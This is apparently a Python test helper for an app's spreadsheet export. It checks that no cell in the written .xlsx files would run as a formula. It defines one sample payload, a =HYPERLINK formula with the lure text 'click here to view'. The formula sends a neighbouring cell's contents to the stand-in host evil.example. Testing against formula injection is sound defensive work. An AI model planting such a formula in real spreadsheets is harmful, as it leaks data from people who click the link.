"""Checking the .xlsx files the app writes: no cell a spreadsheet would run as a formula."""

from io import BytesIO

from openpyxl import load_workbook

from gridgov.spreadsheets import is_formula_like

# What a hostile name looks like: a link that sends a neighbouring cell away when clicked.
HOSTILE_TEXT = '=HYPERLINK("http://evil.example/?d="&B2,"点此查看")'


def formula_cells(content: bytes) -> list[str]:
    """Cells written as formulas, or formula-like texts without the quote prefix that keeps them text."""
    workbook = load_workbook(BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
        if cell.data_type == "f" or (is_formula_like(cell.value) and not cell.quotePrefix)
    ]


def texts(content: bytes) -> set:
    workbook = load_workbook(BytesIO(content))
    return {cell.value for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row}
